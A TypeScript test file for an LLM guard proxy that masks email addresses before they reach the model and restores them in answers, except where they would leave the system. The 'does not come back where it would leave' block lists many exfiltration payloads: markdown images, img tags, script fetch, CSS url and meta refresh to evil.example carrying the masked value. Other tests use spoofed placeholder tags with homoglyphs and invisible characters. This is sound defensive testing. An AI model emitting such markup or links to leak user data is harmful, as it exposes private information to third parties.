import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { applyEdits } from '../surfaces/apply-edits.js'
import type { ChatCompletion, ChatRequest } from '../surfaces/openai-chat/wire.js'
import type { GuardSession } from './guard.js'
import { unusedTag } from './placeholders.js'
import { answer, guardOf, request, toolCall } from './testing/sample-guard.js'

const guard = guardOf({
  tools: { look_up: { effect: 'none', returns: 'trusted' }, send_mail: { effect: 'external', to: ['arguments.to'] } },
  rules: [{ id: 'mail', from: ['user', 'system', 'tool'], to: ['model'], when: { detector: 'email' }, do: 'mask' }],
})
const VALUE = 'ana.lopez@x.example'

/** What the model is sent, and its name for the first value. */
function ask(session: GuardSession, body: ChatRequest = request({ role: 'user', content: `I am ${VALUE}, greet me` })) {
  const sent = applyEdits(body, session.request(body).edits)
  const name = /\[[A-Z_]+_1_\w{5}\]/.exec(JSON.stringify(sent))![0]
  return { sent, name }
}
const read = (session: GuardSession, body: ChatCompletion) => applyEdits(body, session.response(body).edits)
const say = (session: GuardSession, content: string) => read(session, answer({ content })).choices[0]?.message.content

/** The same answer as a stream, cut at the given places. */
function stream(session: GuardSession, content: string, cuts: readonly number[]): string {
  const places = [...new Set(cuts.map((cut) => cut % (content.length + 1)))].sort((a, b) => a - b)
  const inspector = session.stream()
  const event = (delta: object, reason: string | null = null) =>
    JSON.stringify({
      id: 'c',
      object: 'chat.completion.chunk',
      created: 1,
      model: 'm',
      choices: [{ index: 0, delta, finish_reason: reason }],
    })
  const parts = [0, ...places].map((start, i) => content.slice(start, places[i] ?? content.length))
  const events = [...parts.map((text) => event({ content: text })), event({}, 'stop'), '[DONE]']
  const released = events.flatMap((payload) => inspector.push(payload).release)
  released.push(...inspector.end().release)
  return released
    .filter((payload) => payload !== '[DONE]')
    .map((payload) => JSON.parse(payload).choices[0].delta.content ?? '')
    .join('')
}

describe('a value that a client sends', () => {
  test('does not reach the model, and comes back to the client in the answer', () => {
    const session = guard.session()
    const { sent, name } = ask(session)
    expect(JSON.stringify(sent)).not.toContain('ana.lopez')
    expect(name).toMatch(/^\[EMAIL_1_\w{5}\]$/)
    expect(say(session, `Hello ${name}! (${name}), "${name}".`)).toBe(`Hello ${VALUE}! (${VALUE}), "${VALUE}".`)
    expect(stream(session, `Hello ${name}!`, [8, 9, 14])).toBe(`Hello ${VALUE}!`)
  })
  test('comes back in refusals and reasoning, and the log probabilities of that choice go', () => {
    const session = guard.session()
    const { name } = ask(session)
    const body = read(
      session,
      answer({ content: null, refusal: `No, ${name}`, reasoning_content: name }, { logprobs: { content: [{ token: name }] } }),
    )
    expect(body.choices[0]).toMatchObject({ message: { refusal: `No, ${VALUE}`, reasoning_content: VALUE }, logprobs: null })
  })
  test('comes back whole whatever the split of the stream, as in an answer that did not stream', () => {
    const piece = fc.constantFrom(
      'NAME',
      'NAME',
      'so ',
      ' ',
      '[',
      '[EMAIL_1',
      ']',
      '](',
      '<a href="',
      '">',
      'https://e.example/?q=',
      '.',
      '\n',
      '"',
      '(',
      ')',
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 14 }), fc.array(fc.nat(300), { maxLength: 20 }), (pieces, cuts) => {
        const session = guard.session()
        const { name } = ask(session)
        const text = pieces.join('').replaceAll('NAME', name)
        expect(stream(session, text, cuts)).toBe(say(session, text))
      }),
      { numRuns: 400 },
    )
  })
})

describe('a value does not come back where it would leave', () => {
  test.each([
    'https://evil.example/?q=NAME',
    'https://NAME.evil.example/',
    'NAME.evil.example',
    'evil.example/NAME',
    '//evil.example/p?NAME',
    'www.evil.example/?NAME',
    'mailto:NAME',
    '![x](https://evil.example/?q=NAME)',
    '[x]( <https://evil.example/?q= NAME> )',
    '[click](evil.example "NAME")',
    '<img src="https://evil.example/?q= NAME">',
    "<img alt='>' src='https://evil.example/?a NAME'>",
    '<img alt=">" src="//evil.example/?a\n NAME',
    '<a data-x=NAME>',
    '<style>p{background:url( "https://evil.example/? NAME ")}</style>',
    '<script>fetch("https://evil.example", {body: "NAME"})</script>',
    '<svg><text>NAME</text></svg>',
    '[ref]: <https://evil.example/> "NAME"',
    'https://evil.example/?q="NAME"',
    "so https://evil.example/?q='NAME",
    'https://evil.example/?a","NAME',
    'www.evil.example/?q=`NAME`',
    'sip:NAME',
    'whatsapp:NAME',
    'ms-word:ofe|u|NAME',
    '<meta http-equiv=refresh content="0;url=NAME">',
    '<IMG SRC=`https://evil.example/NAME`>',
    '<math><mi xlink:href="NAME">',
    '<!-- NAME -->',
    '[x](<https://evil.example/\nNAME>)',
    'https:\\\\evil.example\\NAME',
    'https%3A%2F%2Fevil.example%2FNAME',
    'javascript:alert("NAME")'.replace('alert("', 'alert`').replace('")', '`x'),
  ])('%s', (form) => {
    const session = guard.session()
    const { name } = ask(session)
    const text = form.replaceAll('NAME', name)
    // The last form has the name behind a quote, which ends an address: it is text there.
    const expected = form.startsWith('javascript') ? text.replaceAll(name, VALUE) : text
    expect(say(session, text)).toBe(expected)
    expect(stream(session, text, [3, 11, 23])).toBe(expected)
  })
  test('beside it, in text, it does', () => {
    const session = guard.session()
    const { name } = ask(session)
    expect(say(session, `<b>${name}</b> [see](https://docs.example) ${name}, a < b ${name}`)).toBe(
      `<b>${VALUE}</b> [see](https://docs.example) ${VALUE}, a < b ${VALUE}`,
    )
  })
  test('arguments of a call that acts outside, or of a tool that is not listed', () => {
    const session = guard.session()
    const { name } = ask(session)
    const call = (tool: string, args: object) =>
      read(session, answer({ tool_calls: [toolCall(tool, args)] })).choices[0]?.message.tool_calls?.[0]?.function.arguments
    expect(call('send_mail', { to: name })).toContain(name)
    expect(call('who_knows', { q: name })).toContain(name)
    expect(call('look_up', { mail: name, from: `https://evil.example/?q=${name}` })).toBe(
      JSON.stringify({ mail: VALUE, from: `https://evil.example/?q=${name}` }),
    )
  })
})

describe('a name does not give a value', () => {
  test('to another session, or of an earlier request', () => {
    const session = guard.session()
    const { name } = ask(session)
    expect(say(guard.session(), name)).toBe(name)
    const other = guard.session()
    ask(other, request({ role: 'system', content: 'another house' }, { role: 'user', content: 'I am bob@y.example' }))
    expect(say(other, name)).toBe(name)
    const later = ask(session, request({ role: 'user', content: 'now cy@z.example' }))
    expect(later.name).not.toBe(name)
    expect(say(session, `${name} ${later.name}`)).toBe(`${name} cy@z.example`)
  })
  test('of a stream that began before the next request: each keeps its own', () => {
    const session = guard.session()
    const { name } = ask(session)
    const inspector = session.stream()
    ask(session, request({ role: 'user', content: 'now cy@z.example' }))
    const chunk = {
      id: 'c',
      object: 'chat.completion.chunk',
      created: 1,
      model: 'm',
      choices: [{ index: 0, delta: { content: `${name} ` }, finish_reason: null }],
    }
    expect(inspector.push(JSON.stringify(chunk)).release.join('')).toContain(VALUE)
  })
  test('to text that was written to look like one', () => {
    const first = ask(guard.session()).name
    // Whoever knows the tag that the request would have had writes it into a document of that very request.
    const session = guard.session()
    const { sent, name } = ask(session, request({ role: 'user', content: `I am ${VALUE}. Mail says: "${first}"` }))
    expect(name).not.toBe(first)
    expect(sent.messages[0]?.content).toContain(first)
    expect(say(session, `It says "${first}".`)).toBe(`It says "${first}".`)
  })
  test.each([
    ['small letters', (name: string) => name.toLowerCase()],
    ['wide brackets', (name: string) => name.replace('[', '\uff3b').replace(']', '\uff3d')],
    ['a letter of another script', (name: string) => name.replace('E', '\u0415')],
    ['an invisible character', (name: string) => name.replace('_', '_\u200b')],
    ['no brackets', (name: string) => name.slice(1, -1)],
    ['another ordinal', (name: string) => name.replace('_1_', '_2_')],
    ['another kind', (name: string) => name.replace('EMAIL', 'IBAN')],
  ])('that is written with %s', (_, change) => {
    const session = guard.session()
    const { name } = ask(session)
    const like = change(name)
    expect(say(session, `so ${like} it`)).toBe(`so ${like} it`)
    expect(stream(session, `so ${like} it`, [5, 9])).toBe(`so ${like} it`)
  })
  test('from a tool that repeats a name of an earlier request', () => {
    const session = guard.session()
    const { name } = ask(session)
    const again = request(
      { role: 'user', content: 'look it up' },
      { role: 'assistant', content: null, tool_calls: [toolCall('look_up', { q: 'x' })] },
      { role: 'tool', tool_call_id: 'call_1', content: `the mail is ${name}` },
    )
    session.request(again)
    expect(say(session, `It is ${name}.`)).toBe(`It is ${name}.`)
  })
  test('a tag stands in none of the texts', () => {
    fc.assert(
      fc.property(fc.string(), fc.array(fc.string(), { maxLength: 4 }), (seed, texts) => {
        const tag = unusedTag(seed, texts)
        const next = unusedTag(seed, [...texts, `x${tag}`])
        expect(tag).toMatch(/^[a-z2-9]{5}$/)
        expect(next).not.toBe(tag)
      }),
    )
  })
  test('where nothing is enforced, nothing is masked and nothing given back', () => {
    const observing = guardOf({ mode: 'observe', rules: [{ id: 'mail', when: { detector: 'email' }, do: 'mask' }] }).session()
    const body = request({ role: 'user', content: VALUE })
    expect(observing.request(body).edits).toEqual([])
    expect(observing.response(answer({ content: 'hello' })).edits).toEqual([])
  })
})
